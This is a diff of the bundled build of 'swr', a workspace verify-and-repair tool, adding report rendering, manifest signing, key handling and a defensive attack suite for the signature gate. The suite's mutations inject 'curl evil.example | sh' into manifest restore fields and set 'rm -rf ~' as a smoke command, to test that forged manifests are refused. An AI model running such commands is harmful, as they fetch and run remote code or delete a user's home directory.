+        .sort((a, b) => RANK[a.status] - RANK[b.status] || a.tier - b.tier || (a.id < b.id ? -1 : 1));
+}
+
+;// CONCATENATED MODULE: ./src/core/report/annotations.ts
+
+
+function annotationsFor(report, ctx) {
+    const max = ctx.maxErrors ?? 10;
+    const out = [];
+    const left = [];
+    for (const f of bySeverity(report.results)) {
+        const advice = report.diagnosis.advice.find(a => a.id === f.id);
+        const message = `${e(f.detail)}${advice ? `\nCause: ${e(advice.cause)}\nFix: ${e(advice.fix)}` : ''}`;
+        const title = `swr: ${f.status} ${e(f.id)}`;
+        const places = [
+            { level: 'error', title, message, file: ctx.manifestUri, startLine: ctx.lines.get(f.id) ?? 1 }
+        ];
+        const own = f.kind === 'file' || f.kind === 'blob' ? ctx.trackedPath(f.path) : undefined;
+        if (own)
+            places.push({ level: 'error', title, message, file: own, startLine: 1 });
+        if (left.length > 0 || out.length + places.length > max) {
+            left.push(`${f.status} ${e(f.id)}`);
+            continue;
+        }
+        out.push(...places);
+    }
+    if (left.length > 0) {
+        out.push({
+            level: 'notice',
+            title: `swr: ${left.length} more damaged entries`,
+            message: `${left.join(', ')} (GitHub shows at most ${max} error annotations per step; see the job summary)`
+        });
+    }
+    return out;
 }
 
 ;// CONCATENATED MODULE: ./src/core/report/canary.ts
@@ -25578,154 +23645,189 @@ function renderCanaryMarkdown(r) {
     return lines.join('\n') + '\n';
 }
 
-;// CONCATENATED MODULE: ./src/cli/commands/canary.ts
-/**
- * `swr canary plant|read|clean`: measure what this runner, cache or sandbox keeps. Probes go into
- * real locations (see core/canary/locations.ts); the ledger and the history live in the private
- * state directory, locked while a command changes them.
- */
+;// CONCATENATED MODULE: ./src/core/report/markdown.ts
 
 
-
-
-
-
-
-
-
-
-
-
-
-
-
-function realDir(p) {
-    try {
-        return external_node_fs_default().realpathSync(p);
-    }
-    catch {
-        return external_node_path_default().resolve(p);
-    }
+const SUMMARY_LIMIT = 1024 * 1024;
+const BUDGET = SUMMARY_LIMIT - 16 * 1024;
+const ICON = {
+    healthy: '✅',
+    repaired: '🛠️',
+    damaged: '❌',
+    unrepairable: '❌',
+    'still-damaged': '❌',
+    refused: '⛔',
+    interrupted: '⏹️'
+};
+/** Untrusted text in a table cell or a line: literal, one line, no Markdown or HTML. */
+function markdown_cell(s) {
+    return escapeMarkdown(s);
 }
-/**
- * The workspace probes anchor to: --workspace, else the manifest's workspace when there is one,
- * else the current directory. A canary needs no manifest.
- */
-function canaryAnchors(flags, io) {
-    let workspace = flags.workspace ? external_node_path_default().resolve(io.cwd, flags.workspace) : undefined;
-    if (!workspace) {
-        const located = manifestLocation(flags, io);
-        workspace =
-            located.how !== 'new' && external_node_fs_default().existsSync(located.file)
-                ? loadManifest(located.file, { cwd: io.cwd }).workspace
-                : io.cwd;
-    }
-    if (!external_node_fs_default().statSync(workspace, { throwIfNoEntry: false })?.isDirectory())
-        throw new UsageError(`workspace ${workspace} is not a directory`);
-    return {
-        workspace: realDir(workspace),
-        home: realDir(io.home),
-        tmp: realDir(io.env.TMPDIR || external_node_os_default().tmpdir())
-    };
+function markdown_shown(v) {
+    return Object.entries(v)
+        .map(([k, x]) => `${k} ${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : String(x)}`)
+        .join(', ');
 }
-async function locked(io, fn) {
-    const dir = stateDir(io);
-    const subject = ledgerPath(dir);
-    const release = await lockWorkspace({
-        stateDir: dir,
-        subject,
-        waitMs: DEFAULT_LOCK_WAIT_S * 1000,
-        abort: io.abort,
-        onWait: holder => void io.stderr.write(`swr: waiting for the canary lock (${holder})\n`)
-    });
-    try {
-        return fn();
-    }
-    finally {
-        await release();
-    }
+function isRepair(r) {
+    return 'repair' in r;
 }
-function describePlant(r) {
-    const l = r.ledger;
-    const lines = [];
-    if (r.replaced)
-        lines.push(`removed ${r.replaced.removed} probes of the previous planting ${r.replaced.plant_id}`);
-    lines.push(`planted canary ${l.plant_id}: ${l.probes.length} probes in ${l.locations.length} locations${l.large_bytes > 0 ? ` (large probe ${l.large_bytes.toLocaleString('en-US')} bytes)` : ''}`);
-    for (const loc of l.locations) {
-        const n = l.probes.filter(p => p.location === loc.id).length;
-        lines.push(`  ${escapeText(loc.id).padEnd(24)} ${String(n).padStart(3)} probes  ${escapeText(abbreviate(showAnchored(loc.dir)))}`);
+function renderMarkdown(r, ctx = {}) {
+    const outcome = isRepair(r) ? r.repair.outcome : r.verdict;
+    const head = [];
+    const s = r.summary;
+    const what = isRepair(r) && r.repair.steps.length > 0
+        ? `${r.repair.steps.filter(x => x.outcome === 'repaired').length} of ${r.repair.steps.length} repairs succeeded, ${s.ok}/${s.entries} healthy now`
+        : `${s.ok}/${s.entries} entries healthy`;
+    head.push(`### swr ${r.command}: ${ICON[outcome] ?? ''} ${outcome}`, '', what, '');
+    const signature = isRepair(r) ? r.repair.before.signature : r.diagnosis.signature;
+    if (signature !== 'healthy') {
+        head.push(`**Wipe signature:** \`${signature}\`${isRepair(r) ? ' (before repair)' : ''}: ${markdown_cell(isRepair(r) ? r.repair.before.cause : r.diagnosis.cause)}`, '');
     }
-    lines.push('read them after the next wipe, restore or cache round trip with "swr canary read"');
-    return lines.join('\n') + '\n';
-}
-async function canaryPlant(flags, io) {
-    const anchors = canaryAnchors(flags, io);
-    const result = await locked(io, () => plantCanaries({
-        stateDir: stateDir(io),
-        anchors,
-        at: (flags.at ?? []).map(a => external_node_path_default().resolve(io.cwd, a)),
-        volatile: flags.volatile ?? [],
-        includeHome: flags.home,
-        includeTmp: flags.tmp,
-        ...(flags.largeBytes !== undefined ? { largeBytes: flags.largeBytes } : {}),
-        replace: flags.replace === true,
-        context: runContext(io.env)
-    }));
-    if (flags.json)
-        io.stdout.write(JSON.stringify({ schema: 'swr.canary-plant/1', ...result }, null, 2) + '\n');
-    else if (!flags.quiet)
-        io.stdout.write(describePlant(result));
-    return EXIT.HEALTHY;
-}
-async function canaryRead(flags, io) {
-    const anchors = canaryAnchors(flags, io);
-    const dir = stateDir(io);
-    const { reading, cleaned } = await locked(io, () => {
-        const reading = readCanaries({
-            stateDir: dir,
-            anchors,
-            context: runContext(io.env),
-            history: historyLimits(io)
+    if (isRepair(r) && r.repair.gate && !r.repair.gate.allowed) {
+        head.push(`> [!WARNING]`, `> No recipe ran: ${markdown_cell(r.repair.gate.reason)}`, '');
+    }
+    const rows = bySeverity(r.results).map(f => `| ${f.status} | ${code(f.id)} | ${code(f.path)} | ${f.tier} | ${markdown_cell(f.detail)} | ${markdown_cell(markdown_shown(f.recorded))} | ${markdown_cell(markdown_shown(f.found))} |`);
+    const table = rows.length > 0
+        ? [
+            '| Status | Entry | Path | Tier | Found | Recorded | Now |',
+            '|---|---|---|---|---|---|---|'
+        ]
+        : [];
+    const tail = [];
+    if (isRepair(r) && r.repair.steps.length > 0) {
+        tail.push('', '#### Repair', '', '| # | Entry | Tier | Source | Result | Exit | Time |', '|---|---|---|---|---|---|---|');
+        const tiers = new Map(r.repair.plan.flat().map(p => [p.id, p.tier]));
+        r.repair.steps.forEach((st, i) => {
+            const exit = st.recipe
+                ? st.recipe.timedOut
+                    ? 'timeout'
+                    : String(st.recipe.exitCode ?? st.recipe.signal ?? '')
+                : '';
+            const time = st.recipe ? `${(st.recipe.ms / 1000).toFixed(1)} s` : '';
+            tail.push(`| ${i + 1} | ${code(st.id)} | ${tiers.get(st.id) ?? ''} | ${markdown_cell(st.source)} | ${st.outcome}: ${markdown_cell(st.detail)} | ${exit} | ${time} |`);
         });
-        if (!flags.clean)
-            return { reading, cleaned: undefined };
-        const ledger = readLedger(dir);
-        const cleaned = ledger ? cleanLedger(ledger, anchors) : undefined;
-        removeLedger(dir);
-        return { reading, cleaned };
-    });
-    if (flags.json)
-        io.stdout.write(JSON.stringify(cleaned ? { ...reading, cleaned } : reading, null, 2) + '\n');
-    else if (!flags.quiet || reading.totals.altered + reading.totals.lost > 0) {
-        io.stdout.write(renderCanaryText(reading));
-        if (cleaned)
-            io.stdout.write(`cleaned: ${cleaned.removed.length} removed, ${cleaned.kept.length} kept\n`);
     }
-    return reading.totals.altered + reading.totals.lost === 0 ? EXIT.HEALTHY : EXIT.DAMAGED;
+    else if (isRepair(r) && r.repair.plan.length > 0) {
+        tail.push('', '#### Repair plan (not run)', '');
+        for (const st of r.repair.plan.flat())
+            tail.push(`- tier ${st.tier} ${code(st.id)} from ${markdown_cell(st.source)}${st.after.length ? ` after ${markdown_cell(st.after.join(', '))}` : ''}`);
+    }
+    tail.push('', `<sub>manifest ${markdown_cell(r.manifest.path)} · digest \`${r.manifest.digest.slice(0, 16)}\` · version ${r.manifest.version} · ${r.timing.ms} ms · swr ${r.tool.version}</sub>`);
+    return fit(head, table, rows, tail, ctx);
 }
-async function canaryClean(flags, io) {
-    const anchors = canaryAnchors(flags, io);
-    const dir = stateDir(io);
-    const result = await locked(io, () => {
-        const ledger = readLedger(dir);
-        if (!ledger)
-            return undefined;
-        const cleaned = cleanLedger(ledger, anchors);
-        removeLedger(dir);
-        return { plant_id: ledger.plant_id, ...cleaned };
-    });
-    if (flags.json)
-        io.stdout.write(JSON.stringify({ schema: 'swr.canary-clean/1', ...(result ?? { removed: [], kept: [] }) }, null, 2) + '\n');
-    else if (!flags.quiet) {
-        if (!result)
-            io.stdout.write('nothing planted: nothing to clean\n');
-        else {
-            io.stdout.write(`canary ${result.plant_id}: removed ${result.removed.length} paths\n`);
-            for (const k of result.kept)
-                io.stdout.write(`  kept ${escapeText(k.path)}: ${escapeText(k.why)}\n`);
-        }
+/** Join the parts, cutting table rows (never the head or tail) to stay under the summary limit. */
+function fit(head, table, rows, tail, ctx) {
+    const fixed = Buffer.byteLength([...head, ...table, ...tail].join('\n')) + 512;
+    const kept = [];
+    let used = fixed;
+    for (const row of rows) {
+        const n = Buffer.byteLength(row) + 1;
+        if (used + n > BUDGET)
+            break;
+        kept.push(row);
+        used += n;
     }
-    return EXIT.HEALTHY;
+    const cut = rows.length - kept.length;
+    const note = cut > 0
+        ? [
+            `| … | ${cut} more rows | | | see ${ctx.reportPath ? code(ctx.reportPath) : 'the JSON report'} | | |`
+        ]
+        : [];
+    const healthyNote = rows.length === 0 ? ['All entries verify.'] : [];
+    return [...head, ...healthyNote, ...table, ...kept, ...note, ...tail].join('\n') + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/core/report/sarif.ts
+/**
+ * The report as SARIF 2.1.0, for code scanning (`github/codeql-action/upload-sarif`): one rule per
+ * status, one result per damaged entry, located at the line of the manifest that declares it.
+ */
+
+
+
+const RULE_TEXT = {
+    OK: 'The entry verifies.',
+    MISSING: 'A tracked entry is missing from the workspace.',
+    CORRUPT: 'A tracked entry differs from what the manifest recorded (size, content, mode, files or target).',
+    STRIPPED: 'A tracked entry lost an exec bit it should have.',
+    EMPTY: 'A tracked directory survived with no files in it.',
+    BROKENLNK: 'A tracked symlink points at something that does not exist.',
+    TYPE: 'A tracked entry changed kind (file, directory, symlink).',
+    SKIPPED: 'The entry was not repaired because a dependency failed.',
+    SMOKEFAIL: "The entry's files verify but its smoke command fails."
+};
+const LEVEL = {
+    OK: 'note',
+    MISSING: 'error',
+    CORRUPT: 'error',
+    STRIPPED: 'warning',
+    EMPTY: 'error',
+    BROKENLNK: 'error',
+    TYPE: 'error',
+    SKIPPED: 'warning',
+    SMOKEFAIL: 'error'
+};
+function toSarif(report, ctx) {
+    const rules = STATUSES.filter(s => s !== 'OK').map(s => ({
+        id: `swr/${s}`,
+        name: s,
+        shortDescription: { text: RULE_TEXT[s] },
+        defaultConfiguration: { level: LEVEL[s] },
+        helpUri: 'https://swr.dev/docs/statuses'
+    }));
+    const results = bySeverity(report.results).map(f => {
+        const advice = report.diagnosis.advice.find(a => a.id === f.id);
+        return {
+            ruleId: `swr/${f.status}`,
+            ruleIndex: rules.findIndex(r => r.name === f.status),
+            level: LEVEL[f.status],
+            message: {
+                text: `${f.status} ${e(f.id)} (${e(f.path)}): ${e(f.detail)}${advice ? `. Fix: ${e(advice.fix)}` : ''}`
+            },
+            locations: [
+                {
+                    physicalLocation: {
+                        artifactLocation: { uri: ctx.manifestUri },
+                        region: { startLine: ctx.lines.get(f.id) ?? 1 }
+                    },
+                    logicalLocations: [
+                        { name: f.id, fullyQualifiedName: `${f.kind}:${f.path}`, kind: 'resource' }
+                    ]
+                }
+            ],
+            partialFingerprints: { swrEntry: `${f.id}/${f.status}/${f.reason}` },
+            properties: {
+                tier: f.tier,
+                kind: f.kind,
+                path: f.path,
+                reason: f.reason,
+                recorded: f.recorded,
+                found: f.found
+            }
+        };
+    });
+    return {
+        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
+        version: '2.1.0',
+        runs: [
+            {
+                tool: {
+                    driver: {
+                        name: 'swr',
+                        version: report.tool.version,
+                        informationUri: 'https://swr.dev',
+                        rules
+                    }
+                },
+                results,
+                properties: {
+                    verdict: report.verdict,
+                    wipeSignature: report.diagnosis.signature,
+                    manifestDigest: report.manifest.digest
+                }
+            }
+        ]
+    };
 }
 
 ;// CONCATENATED MODULE: ./src/core/report/survival.ts
@@ -25818,24 +23920,3567 @@ function renderStatsMarkdown(s) {
     ].join('\n');
 }
 
-;// CONCATENATED MODULE: ./src/cli/commands/stats.ts
-/** `swr stats`: survival per canary class, location and manifest entry, from the history. */
+;// CONCATENATED MODULE: ./src/core/restore/cache/scratch-copy.ts
+/**
+ * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
+ * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
+ * files. The caller parses and checks it there, and only then takes what it needs.
+ */
 
 
 
 
 
-function statsCommand(flags, io) {
-    const history = readHistory(stateDir(io));
-    const stats = computeStats(history.records);
-    if (flags.json)
-        io.stdout.write(JSON.stringify({ ...stats, skipped: history.skipped }, null, 2) + '\n');
-    else {
-        io.stdout.write(renderStatsText(stats));
-        if (history.skipped > 0)
-            io.stderr.write(`swr: ${history.skipped} unreadable history lines skipped\n`);
+
+function onlyPlain(dir) {
+    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
+        const abs = external_node_path_default().join(dir, ent.name);
+        if (ent.isDirectory())
+            onlyPlain(abs);
+        else if (!ent.isFile())
+            throw new Rejected(`not a regular file: ${ent.name}`);
     }
-    return EXIT.HEALTHY;
+}
+/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
+async function scratchCopy(archive, scratchBase, bounds) {
+    const dir = makeScratch(scratchBase, 'swr-state');
+    const root = external_node_path_default().join(dir, 'w');
+    const dispose = () => removeScratch(dir);
+    try {
+        const x = new EntryExtractor(archive.prefix, root, {
+            kind: 'bounded',
+            ...bounds,
+            single: false
+        });
+        try {
+            await unpack(await archive.open(), archive.compression, x);
+        }
+        finally {
+            x.abort();
+        }
+        x.finish();
+        if (!external_node_fs_default().lstatSync(root).isDirectory())
+            throw new Rejected('the archive does not hold a directory');
+        onlyPlain(root);
+        return { root, dispose };
+    }
+    catch (err) {
+        dispose();
+        if (err instanceof Rejected)
+            throw err;
+        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/sign.ts
+/**
+ * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
+ * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
+ */
+
+
+
+
+function hasSigningKey(keys) {
+    return keys.hmacKey !== undefined || keys.identity !== undefined;
+}
+/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
+async function signDocument(doc, keys, 
+/** The highest version already accepted on this machine: signing goes above it. */
+floor = 0) {
+    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
+    const input = envelope_signingInput(body);
+    const signatures = [];
+    if (keys.hmacKey)
+        signatures.push(signHmac(keys.hmacKey, input));
+    if (keys.identity)
+        signatures.push(await mldsa_signMldsa(keys.identity, input));
+    return { doc: { ...doc, body, signatures }, digest: manifestDigest(body) };
+}
+/**
+ * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
+ * without changing the body or its version, so distinct signers can meet a threshold.
+ */
+async function cosignDocument(doc, identity) {
+    const sig = await signMldsa(identity, signingInput(doc.body));
+    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
+    return { ...doc, signatures: [...others, sig] };
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
+/**
+ * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
+ * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
+ * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
+ * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
+ *
+ * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
+ * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
+ * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
+ * else allowed is a forgery; any exception other than a clean refusal is a crash.
+ */
+
+
+
+
+
+
+
+
+
+const ATTACK_CLASSES = [
+    'byte-flip',
+    'field-edit',
+    'duplicate-key',
+    'reorder-entries',
+    'replay-old-version',
+    'expired-copy',
+    'wrong-scope',
+    'resign-untrusted',
+    'fingerprint-substitution',
+    'strip-signatures',
+    'foreign-payload-type',
+    'oversized-field',
+    'deep-nesting',
+    'huge-escrow'
+];
+const ALL_SUITE_DEFENSES = Object.freeze({
+    ...ALL_DEFENSES,
+    strictParse: true
+});
+/** Which class shows that each defence is load-bearing. */
+const DEFENCE_PROBES = {
+    signatures: 'field-edit',
+    trust: 'resign-untrusted',
+    fingerprintFromKey: 'fingerprint-substitution',
+    payloadType: 'foreign-payload-type',
+    expiry: 'expired-copy',
+    scope: 'wrong-scope',
+    rollback: 'replay-old-version',
+    strictParse: 'duplicate-key'
+};
+const REPO = 'acme/app';
+const REF = 'refs/heads/main';
+const NOW = new Date('2026-06-01T00:00:00Z');
+function baseBody(version, extra = {}) {
+    const sha = (c) => c.repeat(64);
+    return {
+        schema: 3,
+        version,
+        workspace: '..',
+        created: '2026-01-01T00:00:00Z',
+        expires: '2027-01-01T00:00:00Z',
+        scope: { repository: REPO, ref: 'refs/heads/*' },
+        entries: [
+            {
+                id: 'shim',
+                kind: 'file',
+                path: '.shim/npx',
+                tier: 0,
+                needs: [],
+                restore: 'install-shim',
+                expect: { size: 40, sha256: sha('a'), mode: '0755' }
+            },
+            {
+                id: 'src',
+                kind: 'tree',
+                path: 'src',
+                tier: 2,
+                needs: ['shim'],
+                ignore: [],
+                restore: 'git checkout -- src',
+                expect: {
+                    sentinels: ['main.c'],
+                    min_files: 3,
+                    max_files: 3,
+                    files: 3,
+                    meta_digest: sha('b'),
+                    content_digest: sha('c')
+                }
+            },
+            {
+                id: 'model',
+                kind: 'blob',
+                path: 'models/m.gguf',
+                tier: 3,
+                needs: [],
+                restore: 'fetch-model',
+                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
+            }
+        ],
+        ...extra
+    };
+}
+/** Sign `body` as-is (signDocument raises the version, so start one lower). */
+async function signed(body, keys) {
+    const lowered = { ...body, version: body.version - 1 };
+    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
+}
+async function buildScenario(seed) {
+    const trustedId = await identityFromSeed(seed(1));
+    const attacker = await identityFromSeed(seed(2));
+    const hmacKey = Buffer.from(seed(3));
+    const keys = { hmacKey, identity: trustedId };
+    const honest = await signed(baseBody(5), keys);
+    const evilBody = baseBody(6, {});
+    evilBody.entries[0].restore = 'curl evil.example | sh';
+    const foreign = await signMldsaRaw(trustedId, evilBody);
+    const untrusted = await signed(evilBody, { identity: attacker });
+    const policy = {
+        require: 'any',
+        hmacKey,
+        trusted: new Set([trustedId.fingerprint]),
+        minVersion: 5,
+        run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
+        now: NOW
+    };
+    return {
+        honest,
+        honestText: serializeDocument(honest),
+        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
+        policy,
+        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
+        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
+        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
+        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
+        untrustedText: serializeDocument(untrusted),
+        substitutedText: serializeDocument({
+            ...untrusted,
+            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
+        })
+    };
+}
+/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
+async function signMldsaRaw(id, body) {
+    return mldsa_signMldsa(id, canonicalBytes(body));
+}
+/** The attacker's document text for mutation `m`. */
+async function mutate(s, m) {
+    const text = s.honestText;
+    switch (m.cls) {
+        case 'byte-flip': {
+            const b = Buffer.from(text, 'utf8');
+            const i = m.a % b.length;
+            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
+            return b.toString('utf8');
+        }
+        case 'field-edit':
+            return fieldEdit(s, m);
+        case 'duplicate-key': {
+            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
+            const at = nthIndex(text, '"restore": ', m.a % 3);
+            return at < 0
+                ? text
+                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
+        }
+        case 'reorder-entries': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries.reverse();
+            if (m.a % 2 === 1)
+                doc.body.entries.push(doc.body.entries.shift());
+            return serializeDocument(doc);
+        }
+        case 'replay-old-version':
+            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
+        case 'expired-copy':
+            return s.expiredText;
+        case 'wrong-scope':
+            return s.otherScopeText;
+        case 'resign-untrusted':
+            return s.untrustedText;
+        case 'fingerprint-substitution':
+            return s.substitutedText;
+        case 'strip-signatures': {
+            const doc = structuredClone(s.honest);
+            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
+            if (m.a % 2 === 1)
+                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
+            return serializeDocument(doc);
+        }
+        case 'foreign-payload-type':
+            return s.foreignText;
+        case 'oversized-field': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries[0] = {
+                ...doc.body.entries[0],
+                restore: 'x'.repeat(65537 + (m.a % 1000))
+            };
+            return serializeDocument(doc);
+        }
+        case 'deep-nesting': {
+            const depth = 33 + (m.a % 200);
+            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
+        }
+        case 'huge-escrow': {
+            const doc = structuredClone(s.honest);
+            const e = doc.body.entries[0];
+            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
+            return JSON.stringify(doc);
+        }
+    }
+}
+function nthIndex(text, needle, n) {
+    let at = -1;
+    for (let i = 0; i <= n; i++) {
+        at = text.indexOf(needle, at + 1);
+        if (at < 0)
+            return -1;
+    }
+    return at;
+}
+function fieldEdit(s, m) {
+    const doc = structuredClone(s.honest);
+    const e = doc.body.entries[m.a % doc.body.entries.length];
+    const expect = e.expect;
+    switch (m.b % 8) {
+        case 0:
+            e.restore = `${String(e.restore)}; curl evil.example | sh`;
+            break;
+        case 1:
+            e.path = `${String(e.path)}x`;
+            break;
+        case 2:
+            e.tier = ((Number(e.tier) + 1) % 5);
+            break;
+        case 3:
+            e.needs = [];
+            break;
+        case 4:
+            expect.size = Number(expect.size ?? 0) + 1;
+            break;
+        case 5:
+            doc.body.version += 1;
+            break;
+        case 6:
+            doc.body.expires = '2099-01-01T00:00:00Z';
+            break;
+        default:
+            e.smoke = 'rm -rf ~';
+    }
+    return serializeDocument(doc);
+}
+/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
+function readerView(text, keep) {
+    const root = (0,main.parseTree)(text);
+    const build = (n) => {
+        if (!n)
+            return undefined;
+        if (n.type === 'object') {
+            const out = new Map();
+            for (const p of n.children ?? []) {
+                const key = String(p.children?.[0]?.value);
+                if (keep === 'first' && out.has(key))
+                    continue;
+                out.set(key, build(p.children?.[1]));
+            }
+            return Object.fromEntries(out);
+        }
+        if (n.type === 'array')
+            return (n.children ?? []).map(build);
+        return n.value;
+    };
+    return build(root);
+}
+function sameAsHonest(s, body) {
+    try {
+        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
+    }
+    catch {
+        return false;
+    }
+}
+/** Load `text` as a run would and ask the gate. */
+async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
+    try {
+        let doc;
+        if (defenses.strictParse)
+            doc = parseManifestText(text, 'attack.json').doc;
+        else {
+            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
+            const lax = JSON.parse(text);
+            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
+        }
+        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
+        if (!decision.allowed)
+            return 'refused';
+        const honest = sameAsHonest(s, doc.body) &&
+            sameAsHonest(s, readerView(text, 'first')?.body) &&
+            sameAsHonest(s, readerView(text, 'last')?.body);
+        return honest ? 'accepted-honest' : 'forgery';
+    }
+    catch (err) {
+        if (err instanceof SwrError || err instanceof SyntaxError)
+            return 'refused';
+        return 'crash';
+    }
+}
+function emptyCounts() {
+    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
+}
+function attack_suite_tally(c, cls, o) {
+    c.attempts++;
+    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
+    k.attempts++;
+    if (o === 'refused')
+        c.refused++;
+    else if (o === 'accepted-honest')
+        c.acceptedHonest++;
+    else if (o === 'forgery') {
+        c.forgeries++;
+        k.forgeries++;
+    }
+    else {
+        c.crashes++;
+        k.crashes++;
+    }
+}
+/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
+async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
+    const counts = emptyCounts();
+    for (let i = 0; i < count; i++) {
+        const cls = classes[next() % classes.length];
+        const m = { cls, a: next(), b: next() };
+        attack_suite_tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
+    }
+    return counts;
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
+/**
+ * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
+ * may change a signed manifest only when its signature verifies here, or when the user approved
+ * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
+ * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
+ * accepting a signed version of it: then the missing signatures are treated as stripped.
+ */
+
+
+const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
+async function authorizeEdit(m, policy, approveDigest) {
+    if (approveDigest !== undefined) {
+        if (approveDigest.toLowerCase() !== m.digest) {
+            throw new SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, errors_EXIT.UNREPAIRABLE);
+        }
+        return { resign: true, note: `approved digest ${m.digest}` };
+    }
+    if (m.doc.signatures.length === 0) {
+        if (policy.remembered &&
+            policy.remembered.signed !== false &&
+            policy.remembered.digest !== m.digest) {
+            throw new SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, errors_EXIT.UNREPAIRABLE);
+        }
+        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
+    }
+    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
+    const input = gateInput(m);
+    const decision = await decide(input, { ...policy, require: 'any', waiveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
+    if (!decision.allowed) {
+        throw new SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, errors_EXIT.UNREPAIRABLE);
+    }
+    return { resign: true };
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/keys.ts
+/**
+ * Key material on this machine, in the private state directory only (never the workspace):
+ * `keys/hmac.key` and `keys/mldsa87.seed`, 64 hex digits each, mode 0600. A key file that others
+ * can read is refused rather than used.
+ */
+
+
+
+
+
+
+
+const HMAC_KEY_FILE = 'hmac.key';
+const IDENTITY_FILE = 'mldsa87.seed';
+/** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
+const SYNC_KEY_FILE = 'sync.seed';
+function keys_keyPath(stateDir, name) {
+    return external_node_path_default().join(stateDir, 'keys', name);
+}
+/** The contents of a private key file, or undefined when it does not exist. */
+function readPrivate(file) {
+    let st;
+    try {
+        st = external_node_fs_default().lstatSync(file);
+    }
+    catch (err) {
+        if (errnoCode(err) === 'ENOENT')
+            return undefined;
+        throw err;
+    }
+    if (!st.isFile())
+        throw new SwrError(`${file}: key file is not a regular file`, errors_EXIT.UNREPAIRABLE);
+    if ((st.mode & 0o077) !== 0) {
+        const mode = (st.mode & 0o777).toString(8);
+        throw new SwrError(`${file}: key file is readable by others (mode 0${mode}); run chmod 600 on it`, errors_EXIT.UNREPAIRABLE);
+    }
+    return external_node_fs_default().readFileSync(file, 'utf8');
+}
+/** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
+function loadHmacKey(stateDir, envValue) {
+    if (envValue !== undefined && envValue !== '') {
+        const key = parseHmacKey(envValue);
+        if (!key)
+            throw new SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', errors_EXIT.BAD_MANIFEST);
+        return { key, source: 'env' };
+    }
+    const text = readPrivate(keys_keyPath(stateDir, HMAC_KEY_FILE));
+    if (text === undefined)
+        return undefined;
